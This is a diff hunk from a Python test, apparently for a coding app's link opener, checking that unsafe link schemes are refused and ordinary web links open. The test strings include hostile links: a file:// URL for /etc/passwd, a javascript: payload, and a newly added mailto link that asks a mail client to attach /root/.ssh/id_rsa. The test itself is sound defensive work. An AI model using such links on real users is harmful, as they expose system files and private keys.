@@ -205,6 +205,7 @@ def test_a_clicked_link_opens_through_the_door_and_only_for_the_web(tmp_path: Pa
     monkeypatch.setenv("DISPLAY", ":7")
     assert CoderApp.open_url is not App.open_url  # the app's own, not Textual's webbrowser
     assert open_link("file:///etc/passwd") and open_link("vscode://x/y") and open_link("javascript:alert(1)")
+    assert open_link("mailto:a@example.test?attach=/root/.ssh/id_rsa")  # some mail clients attach what it names
     assert open_link("https://docs.example.test/a?b=1") is None
     for _ in range(600):  # the opener runs on its own; its line is the proof it ran
         if marker.exists() and marker.read_text().endswith("\n"):
